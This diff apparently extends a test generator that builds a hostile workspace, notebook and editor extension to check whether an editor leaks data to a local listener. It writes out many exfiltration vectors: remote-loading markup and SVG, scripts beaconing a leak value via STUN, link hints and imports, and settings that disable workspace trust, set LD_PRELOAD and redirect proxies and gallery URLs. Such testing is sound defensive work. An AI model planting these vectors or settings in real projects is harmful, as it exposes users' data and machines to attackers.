@@ -7,6 +7,7 @@ import { mkdirSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 
 import { png } from "./png.mjs";
+import { setTraps } from "./traps.mjs";
 
 /** Names for what a listener can't stand in for; nobody has them. */
 const NOWHERE = "leak.localcoder-test.invalid";
@@ -19,14 +20,71 @@ function pointOf(colour) {
   return `data:image/png;base64,${png(1, 1, () => colour).toString("base64")}`;
 }
 
-/** Writes it into `folder`; `port` is the listener's. */
-export function makeHostile(folder, port) {
+/** Everything that a page can load, or prepare to load, by markup alone. */
+function markup(elsewhere) {
+  const nowhere = `https://${NOWHERE}`;
+  return [
+    `<img src="${elsewhere}/html.png"><img srcset="${elsewhere}/set.png 2x, ${nowhere}/set.png 3x">`,
+    `<picture><source srcset="${elsewhere}/source.png"><img src="${elsewhere}/picture.png"></picture>`,
+    `<p style="background-image: url(${elsewhere}/style.png)">styled</p>`,
+    `<style>@import "${elsewhere}/import.css"; @font-face { font-family: leak; src: url(${elsewhere}/font.woff2); }
+      body { font-family: leak; cursor: url(${elsewhere}/cursor.png), auto; }</style>`,
+    `<link rel="stylesheet" href="${elsewhere}/link.css"><link rel="icon" href="${elsewhere}/icon.png">`,
+    `<link rel="dns-prefetch" href="//${NOWHERE}"><link rel="preconnect" href="${elsewhere}">`,
+    `<link rel="preconnect" href="${nowhere}"><link rel="prefetch" href="${elsewhere}/prefetch.html">`,
+    `<link rel="preload" as="image" href="${elsewhere}/preload.png"><link rel="modulepreload" href="${elsewhere}/preload.js">`,
+    `<link rel="prerender" href="${elsewhere}/prerender.html"><link rel="manifest" href="${elsewhere}/manifest.json">`,
+    `<script type="speculationrules">{"prefetch":[{"urls":["${elsewhere}/rules.html"]}]}</script>`,
+    `<video src="${elsewhere}/video.mp4" poster="${elsewhere}/poster.png" autoplay></video>`,
+    `<audio src="${elsewhere}/audio.ogg" autoplay></audio><video><track src="${elsewhere}/track.vtt" default></video>`,
+    `<iframe src="${elsewhere}/frame.html"></iframe><iframe srcdoc="<img src='${elsewhere}/srcdoc.png'>"></iframe>`,
+    `<object data="${elsewhere}/object.svg"></object><embed src="${elsewhere}/embed.svg">`,
+    `<svg width="9" height="9"><image href="${elsewhere}/svg.png" width="9" height="9"/><use href="${elsewhere}/use.svg#x"/>
+      <script>fetch("${elsewhere}/svg-script")</script></svg>`,
+    `<img src="x" onerror="fetch('${elsewhere}/onerror'); new Image().src='${elsewhere}/onerror.png'">`,
+    `<script>new Image().src = "${elsewhere}/script.png"</script><script src="${elsewhere}/script.js"></script>`,
+    `<form action="${elsewhere}/form"><input type="image" src="${elsewhere}/input.png"></form>`,
+    `<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh"><base href="${elsewhere}/base/">`,
+    `<a href="${elsewhere}/ping" ping="${elsewhere}/pinged">a link</a>`,
+    `<math><mi xlink:href="${elsewhere}/math">x</mi></math><table background="${elsewhere}/table.png"></table>`,
+  ];
+}
+
+/** A picture that would load others, and run a script. */
+function svg(elsewhere) {
+  return `<?xml version="1.0"?><?xml-stylesheet href="${elsewhere}/svg.css" type="text/css"?>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="80"
+  onload="new Image().src='${elsewhere}/svg-onload.png'">
+<style>@import url("${elsewhere}/svg-import.css"); rect { fill: url(${elsewhere}/svg-fill.svg#a); }</style>
+<rect width="80" height="80"/><image xlink:href="${elsewhere}/svg-image.png" width="80" height="80"/>
+<image href="https://${NOWHERE}/svg.png" width="8" height="8"/>
+<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${elsewhere}/svg-frame.html"/></foreignObject>
+<script>fetch("${elsewhere}/svg-script")</script></svg>`;
+}
+
+/** Writes it into `folder`; `port` is the listener's, `marks` where what the folder runs leaves word. */
+export function makeHostile(folder, port, marks) {
   const elsewhere = `http://127.0.0.1:${port}`;
   mkdirSync(join(folder, ".vscode"), { recursive: true });
   const write = (name, text) => {
     writeFileSync(join(folder, name), typeof text === "string" ? text : JSON.stringify(text, null, 2));
   };
+  const traps = marks === undefined ? {} : setTraps(folder, marks);
   write(".vscode/settings.json", {
+    ...traps,
+    "security.workspace.trust.enabled": false,
+    "security.workspace.trust.startupPrompt": "always",
+    "security.workspace.trust.untrustedFiles": "open",
+    "workbench.startupEditor": "readme",
+    "workbench.colorTheme": `${elsewhere}/theme.json`,
+    "workbench.iconTheme": `${elsewhere}/icons.json`,
+    "editor.fontFamily": `url(${elsewhere}/font.woff2)`,
+    "extensions.ignoreRecommendations": false,
+    "extensions.gallery.serviceUrl": elsewhere,
+    "terminal.integrated.env.linux": { LD_PRELOAD: "/nowhere/evil.so" },
+    "yaml.schemas": { [`${elsewhere}/yaml-schema.json`]: "*.yaml" },
+    "markdown.preview.scripts": [`${elsewhere}/preview.js`],
+    "chat.mcp.access": "all",
     "workbench.editorAssociations": { "*.md": "vscode.markdown.preview.editor" },
     "npm.fetchOnlinePackageInfo": true,
     "json.schemaDownload.enable": true,
@@ -51,30 +109,42 @@ export function makeHostile(folder, port) {
   });
   write("data.json", { $schema: `${elsewhere}/schema.json`, value: 1 });
   write("page.html", `<link rel="stylesheet" href="${elsewhere}/a.css">\n`);
+  write("picture.svg", svg(elsewhere));
+  write("data.yaml", `# yaml-language-server: $schema=${elsewhere}/yaml.json\nvalue: 1\n`);
+  write("all.code-workspace", { folders: [{ path: "." }], settings: { "http.proxy": elsewhere } });
+  const page = [
+    `![a plain one](${elsewhere}/markdown.png) ![nowhere](https://${NOWHERE}/markdown.png)`,
+    `[![a linked one](${elsewhere}/linked.png)](command:workbench.action.terminal.new) ![][ref]`,
+    ...markup(elsewhere),
+    `$$\\includegraphics{${elsewhere}/math.png}$$`,
+    `\`\`\`mermaid\ngraph LR; a-->b; click a "${elsewhere}/mermaid"\n\`\`\``,
+    `[ref]: ${elsewhere}/reference.png`,
+    "",
+  ].join("\n\n");
   write(
     "PICTURES.md",
-    [
-      "# Pictures",
-      `<img src="${pointOf(SEEN.preview)}" width="200" height="100">`,
-      `![a plain one](${elsewhere}/markdown.png)`,
-      `![nowhere](https://${NOWHERE}/markdown.png)`,
-      `<img src="${elsewhere}/html.png">`,
-      `<link rel="stylesheet" href="${elsewhere}/markdown.css">`,
-      `<link rel="dns-prefetch" href="//${NOWHERE}"><link rel="preconnect" href="${elsewhere}">`,
-      `<video src="${elsewhere}/video.mp4" autoplay></video>`,
-      `<iframe src="${elsewhere}/frame.html"></iframe>`,
-      "",
-    ].join("\n\n"),
+    `# Pictures\n\n<img src="${pointOf(SEEN.preview)}" width="200" height="100">\n\n${page}`,
   );
+  write("README.md", `# Read me\n\n${page}`);
   write("leak.ipynb", notebook(elsewhere));
+}
+
+/** Kinds of outputs beside HTML that a renderer shows. */
+const OUTPUTS = ["image/svg+xml", "application/javascript", "text/markdown", "text/latex"];
+
+function contentOf(type, elsewhere) {
+  if (type === "image/svg+xml") {
+    return svg(elsewhere).slice(svg(elsewhere).indexOf("<svg"));
+  }
+  if (type === "application/javascript") {
+    return `fetch("${elsewhere}/output.js"); import("${elsewhere}/module.js");`;
+  }
+  return `![remote](${elsewhere}/output.png)\n\n${markup(elsewhere).join("\n\n")}`;
 }
 
 /** A notebook with an output that runs scripts where it is shown. */
 function notebook(elsewhere) {
-  const output = `
-    <img src="${elsewhere}/notebook.png"><img src="https://${NOWHERE}/notebook.png">
-    <link rel="stylesheet" href="${elsewhere}/notebook.css">
-    <iframe src="${elsewhere}/notebook.html"></iframe>
+  const output = `${markup(elsewhere).filter((it) => !/<script|refresh/u.test(it)).join("\n")}
     <p id="tried">not yet</p>
     <script>(${attack})(${JSON.stringify(elsewhere)}, ${JSON.stringify(SEEN.notebook)});</script>`;
   return {
@@ -96,6 +166,20 @@ function notebook(elsewhere) {
           },
         ],
       },
+      {
+        cell_type: "markdown",
+        id: "words",
+        metadata: {},
+        source: [`# Cell\n\n![remote](${elsewhere}/cell.png)\n\n${markup(elsewhere).join("\n\n")}`],
+      },
+      ...OUTPUTS.map((type) => ({
+        cell_type: "code",
+        id: type.replaceAll(/\W/gu, "-"),
+        execution_count: 1,
+        metadata: {},
+        source: [type],
+        outputs: [{ output_type: "display_data", metadata: {}, data: { [type]: [contentOf(type, elsewhere)] } }],
+      })),
     ],
   };
 }
@@ -139,6 +223,19 @@ async function attack(elsewhere, colour) {
       socket.onerror = () => reject(new Error("blocked"));
     });
   });
+  await attempt("peer", () => {
+    const stun = elsewhere.replace("http://", "stun:");
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
+    peer.createDataChannel("leak");
+    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+  });
+  await attempt("hints", () => {
+    for (const rel of ["dns-prefetch", "preconnect", "prefetch", "prerender"]) {
+      const link = document.createElement("link");
+      Object.assign(link, { rel, href: `${elsewhere}/hint?${leak}` });
+      document.head.append(link);
+    }
+  });
   await attempt("script", () => import(`${elsewhere}/script.js?${leak}`));
   await attempt("window", () => window.open(`${elsewhere}/window?${leak}`));
   await attempt("top", () => {
@@ -157,4 +254,50 @@ export function goElsewhere(port) {
   document.body.append(form);
   form.submit();
   window.location.href = `http://127.0.0.1:${port}/itself`;
+}
+
+/** An extension of the user's whose pages are hostile: its own, and what it says of itself. */
+export function hostileExtension(port) {
+  const elsewhere = `http://127.0.0.1:${port}`;
+  const page = `<!DOCTYPE html><html><body><h1>Page without a policy</h1>${markup(elsewhere).join("\n")}</body></html>`;
+  const manifest = {
+    name: "hostile",
+    displayName: "Hostile",
+    publisher: "test",
+    version: "1.0.0",
+    description: `![remote](${elsewhere}/description.png)`,
+    icon: `${elsewhere}/icon.png`,
+    homepage: elsewhere,
+    repository: { type: "git", url: `${elsewhere}/repository` },
+    badges: [{ url: `${elsewhere}/badge.svg`, href: elsewhere, description: "badge" }],
+    engines: { vscode: "^1.80.0" },
+    main: "./extension.js",
+    capabilities: { untrustedWorkspaces: { supported: true } },
+    contributes: {
+      commands: [
+        { command: "hostile.page", title: "Hostile: Show Page" },
+        { command: "hostile.extension", title: "Hostile: Show Extension" },
+      ],
+    },
+  };
+  const code = `
+    const { commands, window, ViewColumn } = require("vscode");
+    exports.activate = (context) => {
+      context.subscriptions.push(
+        commands.registerCommand("hostile.page", () => {
+          const options = { enableScripts: true };
+          const panel = window.createWebviewPanel("hostile", "Hostile", ViewColumn.One, options);
+          panel.webview.html = ${JSON.stringify(page)};
+        }),
+        commands.registerCommand("hostile.extension", () =>
+          commands.executeCommand("extension.open", "test.hostile"),
+        ),
+      );
+    };`;
+  return {
+    "test.hostile-1.0.0/package.json": JSON.stringify(manifest),
+    "test.hostile-1.0.0/extension.js": code,
+    "test.hostile-1.0.0/README.md": `# Read me of an extension\n\n![remote](${elsewhere}/extension.png)\n\n${markup(elsewhere).join("\n\n")}`,
+    "test.hostile-1.0.0/CHANGELOG.md": `![remote](${elsewhere}/changelog.png)\n`,
+  };
 }
